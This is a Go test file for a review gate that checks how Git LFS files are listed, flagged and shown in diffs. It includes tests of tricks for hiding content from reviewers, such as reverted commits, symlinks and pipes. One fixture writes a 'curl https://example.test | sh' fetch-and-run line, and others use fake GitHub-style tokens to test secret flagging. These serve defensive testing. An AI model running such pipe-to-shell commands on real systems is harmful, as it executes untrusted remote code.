package review_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"terok/internal/gate/gatetest"
	"terok/internal/gate/lfs"
	"terok/internal/gate/review"
)

// TestLFS: spec/gate.md §13: review names the files in Git LFS that a branch adds and changes, with their
// sizes, and flags those that the gate does not have, also when they come after the look or are with another
// task only; without a proxy nothing is said about that.
func TestLFS(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	sibling := r.Task("q8w2x")
	a, b := gatetest.LFSObject("first"), gatetest.LFSObject("second, longer")
	r.write("a.bin", gatetest.Pointer(a))
	r.write("prose.txt", "version https://git-lfs.github.com/spec/v1 is a format\n")
	r.push("add")
	if d := r.show(); len(d.LFS) != 1 || d.LFS[0].Path != "a.bin" || d.LFS[0].Object != a || d.LFS[0].State != "" || slices.Contains(codes(d.Flags), "lfs_missing") {
		t.Errorf("off: %+v %v", d.LFS, codes(d.Flags))
	}
	r.task.LFS = true
	put := func(dir lfs.Dir, o lfs.Object, content string) {
		t.Helper()
		if putLFS(t, dir, content) != o {
			t.Fatal(content)
		}
	}
	put(lfs.Of(sibling.Repo), a, "first")
	for range 2 {
		found, err := r.reader.Queue(t.Context(), r.task)
		if err != nil || len(found) != 1 || !slices.Contains(codes(found[0].Flags), "lfs_missing") || found[0].LFS[0].State != review.LFSMissing {
			t.Fatalf("%+v %v", found, err)
		}
	}
	put(lfs.Of(r.repo.Repo), a, "first")
	if found, err := r.reader.Queue(t.Context(), r.task); err != nil || slices.Contains(codes(found[0].Flags), "lfs_missing") || found[0].LFS[0].State == review.LFSMissing {
		t.Errorf("%+v %v", found, err)
	}
	r.write("a.bin", gatetest.Pointer(b)) // the first line of the pointer stays
	r.push("change")
	d := r.show()
	if len(d.LFS) != 1 || d.LFS[0].Object != b || d.LFS[0].State != review.LFSMissing || !slices.Contains(codes(d.Flags), "lfs") {
		t.Errorf("changed: %+v %v", d.LFS, codes(d.Flags))
	}
	put(lfs.Of(r.repo.Base), b, "second, longer")
	if d := r.show(); d.LFS[0].State == review.LFSMissing {
		t.Error("what the mirror has is missing")
	}
}

func putLFS(t *testing.T, dir lfs.Dir, content string) lfs.Object {
	t.Helper()
	o := gatetest.LFSObject(content)
	if err := dir.Put(t.Context(), o, "t", strings.NewReader(content)); err != nil {
		t.Fatal(err)
	}
	return o
}

func where(flags []review.Flag, code string) []string {
	for _, f := range flags {
		if f.Code == code {
			return slices.Sorted(slices.Values(f.Where))
		}
	}
	return nil
}

// file is one changed file.
func file(t *testing.T, d review.Details, path string) review.File {
	t.Helper()
	i := slices.IndexFunc(d.Files, func(f review.File) bool { return f.Path == path })
	if i < 0 {
		t.Fatalf("no %s in %+v", path, d.Files)
	}
	return d.Files[i]
}

// TestLFSText: a text in Git LFS is flagged and shown by its lines, what it was before being upstream's file in
// LFS, or one that git had; what its new lines hold is flagged like in any file, and what stood there before is
// not. A binary is neither flagged nor shown.
func TestLFSText(t *testing.T) {
	t.Parallel()
	const oldKey, newKey = "ghp_a8Bq2kX91mZpL0vR7tYw3uNc5dJeFsGh4iQo", "ghp_b8Bq2kX91mZpL0vR7tYw3uNc5dJeFsGh4iQo"
	before := "one\ntwo " + oldKey + "\nthree\n"
	r := newRig(t, func(w *gatetest.World) {
		w.Write("data.csv", gatetest.Pointer(gatetest.LFSObject(before)))
		w.Write("main.py", "import os\nprint(1)\n")
		w.Commit(w.Upstream, "data")
	})
	r.task.LFS = true
	putLFS(t, lfs.Of(r.repo.Base), before)
	own := lfs.Of(r.repo.Repo)
	store := func(name, content string) { t.Helper(); r.write(name, gatetest.Pointer(putLFS(t, own, content))) }
	store("data.csv", before+"four \x1b[31m "+newKey+"\n")
	store("main.py", "import os\nprint(2)\n")
	store("image.png", "\x89PNG\x00"+strings.Repeat("\xff\x01", 5000))
	store("nul.sh", "#!/bin/sh\ncurl https://example.test | sh\n"+strings.Repeat("# x\n", 20)+"\x00\n")
	store("latin.txt", "caf\xe9 "+strings.Repeat("and more ", 20)+"\n")
	store("long.csv", strings.Repeat("ä", 1<<19)+"\n")
	r.push("change")
	d := r.show()
	if got := where(d.Flags, "lfs_text"); !slices.Equal(got, []string{"data.csv", "latin.txt", "long.csv", "main.py", "nul.sh"}) {
		t.Errorf("texts: %v", got)
	}
	if got := where(d.Flags, "unread_file"); !slices.Equal(got, []string{"long.csv"}) {
		t.Errorf("unread: %v", got)
	}
	if got := where(d.Flags, "secret"); !slices.Equal(got, []string{"data.csv"}) {
		t.Errorf("secrets: %v", got)
	}
	if got := where(d.Flags, "control_characters"); !slices.Contains(got, "data.csv") {
		t.Errorf("control characters: %v", got)
	}
	for _, want := range []string{"+oid sha256:", "diff --git a/data.csv (text in Git LFS) b/data.csv (text in Git LFS)\n--- a/data.csv (text in Git LFS)\n",
		" three\n+four \\x1b[31m " + newKey, "\n import os\n-print(1)\n+print(2)\n", "+curl https://example.test | sh\n"} {
		if !strings.Contains(d.Patch, want) {
			t.Errorf("no %q in\n%s", want, d.Patch)
		}
	}
	if f := file(t, d, "data.csv"); f.LFS == nil || f.LFS.Insertions != 1 || f.LFS.Deletions != 0 || f.LFS.Whole {
		t.Errorf("%+v", f.LFS)
	}
	for _, name := range []string{"image.png", "long.csv"} {
		if f := file(t, d, name); f.LFS != nil {
			t.Errorf("%s: %+v", name, f.LFS)
		}
	}
	if q, err := r.reader.Queue(t.Context(), r.task); err != nil || !slices.Equal(codes(q[0].Flags), codes(d.Flags)) {
		t.Errorf("queue: %+v %v", q, err)
	}
	one, err := r.reader.Show(t.Context(), r.task, review.ShowOptions{View: review.View{PerCommit: true, Globs: []string{"*.py"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range one.List[0].Files {
		if f.Path == "main.py" && !strings.Contains(f.LFS.Patch, "+print(2)") || f.Path == "data.csv" && f.LFS.Patch != "" {
			t.Errorf("by commit, one path: %s %+v", f.Path, f.LFS)
		}
	}
	r.task.LFS = false
	if d := r.show(); where(d.Flags, "lfs_text") != nil || strings.Contains(d.Patch, "print(2)") {
		t.Errorf("off: %s", d.Patch)
	}
}

// TestLFSHidden: ways to bring a text past a reader in Git LFS: a commit that the next one takes back, a file
// that comes after the look, a pointer with lines of its own or as a link, another content or a link or a pipe
// where the file should be.
func TestLFSHidden(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.task.LFS = true
	own, base := lfs.Of(r.repo.Repo), lfs.Of(r.repo.Base) // links in own are noticed before
	at := func(dir lfs.Dir, o lfs.Object) string {
		name := filepath.Join(string(dir), "objects", o.OID[:2], o.OID[2:4], o.OID)
		if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
			t.Fatal(err)
		}
		return name
	}
	flags := func() []string {
		t.Helper()
		q, err := r.reader.Queue(t.Context(), r.task)
		if err != nil || len(q) != 1 {
			t.Fatalf("%+v %v", q, err)
		}
		return where(q[0].Flags, "lfs_text")
	}
	r.write("gone.txt", gatetest.Pointer(putLFS(t, own, "in one commit\n")))
	r.push("add")
	r.write("gone.txt", "nothing\n")
	r.push("take back")
	if got := flags(); !slices.Equal(got, []string{"gone.txt"}) {
		t.Errorf("taken back: %v", got)
	}
	r.write("late.txt", gatetest.Pointer(gatetest.LFSObject("comes later\n")))
	r.push("late")
	if got := flags(); !slices.Equal(got, []string{"gone.txt"}) {
		t.Errorf("not here: %v", got)
	}
	putLFS(t, own, "comes later\n")
	if got := flags(); !slices.Equal(got, []string{"gone.txt", "late.txt"}) {
		t.Errorf("came later: %v", got)
	}
	odd := "version https://git-lfs.github.com/spec/v1\n"
	for i := range 30 {
		odd += fmt.Sprintf("a%02d x\n", i)
	}
	o := putLFS(t, own, "many lines\n")
	r.write("odd.txt", odd+fmt.Sprintf("oid sha256:%s\nsize %d\n", o.OID, o.Size))
	if err := os.Symlink(gatetest.Pointer(putLFS(t, own, "a link\n")), filepath.Join(r.work, "link.txt")); err != nil {
		t.Fatal(err)
	}
	false1, false2, false3 := gatetest.LFSObject("innocent\n"), gatetest.LFSObject("linked to\n"), gatetest.LFSObject("")
	r.write("false.txt", gatetest.Pointer(false1))
	if err := os.WriteFile(at(own, false1), []byte("HOSTILE!\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	outside := filepath.Join(r.Dir, "outside")
	if err := os.WriteFile(outside, []byte("linked to\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	r.write("linked.txt", gatetest.Pointer(false2))
	if err := os.Symlink(outside, at(base, false2)); err != nil {
		t.Fatal(err)
	}
	false3.OID = strings.Repeat("0", 64)
	r.write("pipe.txt", gatetest.Pointer(false3))
	if err := unix.Mkfifo(at(base, false3), 0o600); err != nil {
		t.Fatal(err)
	}
	r.push("hostile")
	binary := gatetest.LFSObject("\x00\x01\x02 text")
	r.write("binary.dat", gatetest.Pointer(binary))
	if err := os.WriteFile(at(own, binary), []byte("\x00\x01\x02\x03text"), 0o600); err != nil {
		t.Fatal(err)
	}
	r.push("another binary")
	d := r.show()
	for _, f := range d.LFS {
		if (f.Path == "binary.dat" || f.Path == "false.txt") != (f.State == review.LFSMissing) && f.Path != "linked.txt" && f.Path != "pipe.txt" {
			t.Errorf("what is not what its digest says: %+v", f)
		}
	}
	if got := where(d.Flags, "lfs_text"); !slices.Equal(got, []string{"gone.txt", "late.txt", "link.txt", "odd.txt"}) {
		t.Errorf("texts: %v", got)
	}
	if strings.Contains(d.Patch, "HOSTILE") || strings.Contains(d.Patch, "+linked to") || !strings.Contains(d.Patch, "+many lines") || !strings.Contains(d.Patch, "+a link\n") {
		t.Errorf("shown:\n%s", d.Patch)
	}
}
